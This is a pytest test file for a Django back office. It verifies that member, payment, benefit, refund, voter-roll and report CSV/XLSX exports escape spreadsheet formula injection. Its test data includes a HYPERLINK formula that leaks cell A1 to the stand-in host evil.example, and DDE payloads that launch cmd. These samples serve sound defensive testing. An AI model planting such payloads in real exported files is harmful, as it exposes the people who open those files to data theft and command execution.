"""CSV formula injection (issue #12, point 9): a name or communication such as ``=HYPERLINK("x")``
reaches every CSV/XLSX the back office writes as text, never as a formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from benefits import reference as benefits_reference
from benefits import services as benefit_services
from benefits.tests.test_services import paid_up_member
from core.csvsafe import safe_cell
from members import services as member_services
from members.tests.factories import household_with_titular

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ESCAPED = "'" + EVIL


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        pytest.param(EVIL, ESCAPED, id="hyperlink"),
        pytest.param("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", id="dde"),
        pytest.param("+SUM(1,2)", "'+SUM(1,2)", id="plus-formula"),
        pytest.param("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", id="minus-formula"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at-formula"),
        pytest.param("\t=1+1", "'\t=1+1", id="tab"),
        pytest.param("\r=1+1", "'\r=1+1", id="carriage-return"),
        pytest.param("-12,50", "-12,50", id="negative-amount-stays-a-number"),
        pytest.param("-1.234,56", "-1.234,56", id="belgian-thousands"),
        pytest.param("+32 475 12 34 56", "+32 475 12 34 56", id="phone-number"),
        pytest.param("-", "-", id="lone-dash"),
        pytest.param("Peeters", "Peeters", id="plain-text"),
        pytest.param("", "", id="empty"),
        pytest.param(Decimal("-12.50"), Decimal("-12.50"), id="decimal-untouched"),
        pytest.param(-3, -3, id="int-untouched"),
        pytest.param(None, None, id="none-untouched"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def rows(content: str, delimiter=";"):
    return list(csv.reader(io.StringIO(content), delimiter=delimiter))


def cells(content: str, delimiter=";"):
    return {cell for row in rows(content, delimiter) for cell in row}


@pytest.fixture
def evil_member(table_2026):
    with time_machine.travel(date(2026, 6, 15), tick=False):
        benefits_reference.seed()
        yield paid_up_member(last_name=EVIL)


@pytest.mark.django_db
def test_member_export_escapes_names_csv_and_xlsx(client, make_user, evil_member):
    client.force_login(make_user("manager"))
    fields = {f"memberresource_{name}": "on" for name in ("id", "last_name", "first_name")}
    data = {"resource": "0", "reason": "Test of the formula escaping", **fields}
    content = client.post(reverse("admin:members_member_export"), {"format": "0", **data}).content.decode()
    assert ESCAPED in cells(content, ",") and EVIL not in cells(content, ",")
    from openpyxl import load_workbook

    book = load_workbook(
        io.BytesIO(client.post(reverse("admin:members_member_export"), {"format": "1", **data}).content)
    )
    values = [cell for row in book.active.iter_rows() for cell in row]
    evil = [c for c in values if isinstance(c.value, str) and EVIL in c.value]
    assert evil and all(c.data_type == "s" and c.value == ESCAPED for c in evil)


@pytest.mark.django_db
def test_payment_export_escapes_communications(client, make_user, table_2026):
    with time_machine.travel(date(2026, 6, 15), tick=False):
        household, _ = household_with_titular()
        member_services.payment_record(
            household=household, amount=Decimal("10.00"), paid_on=date(2026, 1, 5), communication="=cmd|' /C calc'!A0"
        )
    client.force_login(make_user("manager"))
    response = client.post(
        reverse("admin:members_payment_export"),
        {
            "format": "0",
            "resource": "0",
            "reason": "Test of the formula escaping",
            **{f"paymentresource_{name}": "on" for name in ("id", "household", "amount", "communication")},
        },
    )
    assert "'=cmd|' /C calc'!A0" in cells(response.content.decode(), ",")
    assert "10.00" in cells(response.content.decode(), ",")  # amounts stay numbers


@pytest.mark.django_db
def test_benefit_payment_batch_csv_escapes_names(evil_member, make_user):
    with time_machine.travel(date(2026, 6, 15), tick=False):
        claim = benefit_services.claim_file(
            member=evil_member, benefit="foot_care", event_date=date(2026, 3, 2), quantity=1, evidence=["invoice"]
        )
        batch = benefit_services.batch_release(claim_ids=[claim.pk])
        benefit_services.batch_approve(batch=batch, user=make_user("manager"))
    content = benefit_services.batch_csv(batch)
    assert f"{ESCAPED} Jan" in cells(content) and "10.00" in cells(content)


@pytest.mark.django_db
def test_lending_refund_batch_csv_escapes_names(client, make_user, evil_member):
    from lending.models import MaxInvoiceRefund

    refund = MaxInvoiceRefund.objects.create(
        member=evil_member,
        year=2025,
        counted_rent=Decimal("500.00"),
        refund=Decimal("50.00"),
        status="computed",
        computed_at=timezone.now(),
    )
    client.force_login(make_user("manager"))
    response = client.post(
        reverse("admin:lending_maxinvoicerefund_changelist"), {"action": "export_csv", "_selected_action": [refund.pk]}
    )
    assert f"{ESCAPED} Jan" in cells(response.content.decode()) and "50.00" in cells(response.content.decode())


@pytest.mark.django_db
def test_voter_roll_csv_escapes_names_and_is_logged(client, make_user, evil_member):
    from core.models import AccessLog
    from elections.models import Election, ElectionKind, VoterRollEntry

    election = Election.objects.create(kind=ElectionKind.ASSEMBLY, year=2028, seats=2)
    VoterRollEntry.objects.create(
        election=election,
        member=evil_member,
        last_name=evil_member.last_name,
        first_name="Jan",
        member_number=str(evil_member.pk),
        address="@Gent",
    )
    client.force_login(make_user("election_bureau"))
    content = client.get(reverse("admin:elections_election_roll_csv", args=[election.pk])).content.decode()
    assert {ESCAPED, "'@Gent"} <= cells(content) and EVIL not in cells(content)
    assert AccessLog.objects.get(action="export").count == 1


def test_report_csv_escapes_cells():
    from reports.views import Page, Table, _csv

    page = Page(
        title="t",
        tables=[Table(title="Figures", headers=["entity", "value"], rows=[[EVIL, Decimal("-12.50")]])],
        charts=[],
    )
    content = b"".join(_csv(page, "finance", 2026, excel=False).streaming_content).decode()
    assert [ESCAPED, "-12.50"] in rows(content, ",")
    # the Excel CSV (";", decimal comma, BOM) escapes the cell the same way
    excel = b"".join(_csv(page, "finance", 2026, excel=True).streaming_content).decode("utf-8-sig")
    assert [ESCAPED, "-12,50"] in rows(excel)
